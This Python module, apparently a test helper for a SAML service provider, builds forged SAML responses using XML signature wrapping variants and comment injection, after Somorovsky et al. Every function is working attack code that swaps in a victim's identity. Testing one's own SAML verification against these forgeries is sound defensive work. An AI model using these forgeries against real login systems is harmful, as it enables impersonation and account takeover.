"""What somebody between provider and us does to a response: forged assertions around a signed one (XML signature wrapping).

After Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012).
"""

import base64
from copy import deepcopy
from typing import Any

from lxml import etree

SAML = "{urn:oasis:names:tc:SAML:2.0:assertion}"
DSIG = "{http://www.w3.org/2000/09/xmldsig#}"


def read(form: dict[str, str]) -> Any:
    return etree.fromstring(base64.b64decode(form["SAMLResponse"]))


def written(form: dict[str, str], response: Any) -> dict[str, str]:
    return form | {"SAMLResponse": base64.b64encode(etree.tostring(response)).decode()}


def _forged(assertion: Any, victim: str) -> Any:
    """A copy that names somebody else, without the signature."""
    copy = deepcopy(assertion)
    copy.set("ID", "id-forged")
    copy.remove(copy.find(f"{DSIG}Signature"))
    for value in copy.iter(f"{SAML}AttributeValue", f"{SAML}NameID"):
        if value.text and "@" in value.text:
            value.text = victim
    return copy


def before(form: dict[str, str], victim: str) -> dict[str, str]:
    """The forged assertion stands before the signed one."""
    response = read(form)
    signed = response.find(f"{SAML}Assertion")
    response.insert(response.index(signed), _forged(signed, victim))
    return written(form, response)


def around(form: dict[str, str], victim: str) -> dict[str, str]:
    """The forged assertion has the signed one within."""
    response = read(form)
    signed = response.find(f"{SAML}Assertion")
    forged = _forged(signed, victim)
    response.replace(signed, forged)
    forged.append(signed)
    return written(form, response)


def in_signature(form: dict[str, str], victim: str) -> dict[str, str]:
    """The forged assertion carries the signature, whose Object holds the signed one under its own ID."""
    response = read(form)
    signed = response.find(f"{SAML}Assertion")
    forged = _forged(signed, victim)
    signature = signed.find(f"{DSIG}Signature")
    signed.remove(signature)
    etree.SubElement(signature, f"{DSIG}Object").append(deepcopy(signed))
    forged.insert(1, signature)
    response.replace(signed, forged)
    return written(form, response)


def same_id(form: dict[str, str], victim: str) -> dict[str, str]:
    """Both assertions have the ID that was signed."""
    response = read(form)
    signed = response.find(f"{SAML}Assertion")
    forged = _forged(signed, victim)
    forged.set("ID", signed.get("ID"))
    response.insert(response.index(signed), forged)
    return written(form, response)


def with_comment(form: dict[str, str], after: str) -> dict[str, str]:
    """A comment in each value that begins with `after`, which the signature does not see."""
    response = read(form)
    for value in list(response.iter(f"{SAML}AttributeValue", f"{SAML}NameID")):
        if value.text and value.text.startswith(after):
            comment = etree.Comment("x")
            comment.tail, value.text = value.text[len(after) :], after
            value.append(comment)
    return written(form, response)
